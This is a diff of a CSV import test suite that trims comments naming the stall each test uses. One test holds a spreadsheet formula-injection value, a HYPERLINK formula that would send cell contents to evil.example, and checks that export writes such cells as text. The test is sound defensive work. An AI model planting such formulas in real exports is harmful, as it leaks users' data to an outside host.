@@ -134,7 +134,7 @@ describe("CSV import", () => {
   });
 
   it("re-importing the exported file updates, never duplicates", async () => {
-    const c = await client("0913000012"); // hh-012: a stall no other test file changes
+    const c = await client("0913000012"); // hh-012
     const stall = "stall-hh-012";
     // a draft without any pack size yet exports as a product-only row and re-imports cleanly
     await prisma.product.create({
@@ -179,7 +179,7 @@ describe("CSV import", () => {
   });
 
   it("stock in an exported file is read against stock_base: sales since the export are not undone", async () => {
-    const c = await client("0913000016"); // hh-016: a stall no other test changes
+    const c = await client("0913000016"); // hh-016
     const stall = "stall-hh-016";
     const p = await prisma.product.create({
       data: {
@@ -246,7 +246,7 @@ describe("CSV import", () => {
   });
 
   it("export cannot smuggle a spreadsheet formula (=, +, -, @ cells are written as text) and still re-imports unchanged", async () => {
-    const c = await client("0913000014"); // hh-014: a stall no other test changes
+    const c = await client("0913000014"); // hh-014
     const stall = "stall-hh-014";
     const name = `=HYPERLINK("http://evil.example/?"&A1,"Chè") ${uid()}`;
     const p = await prisma.product.create({
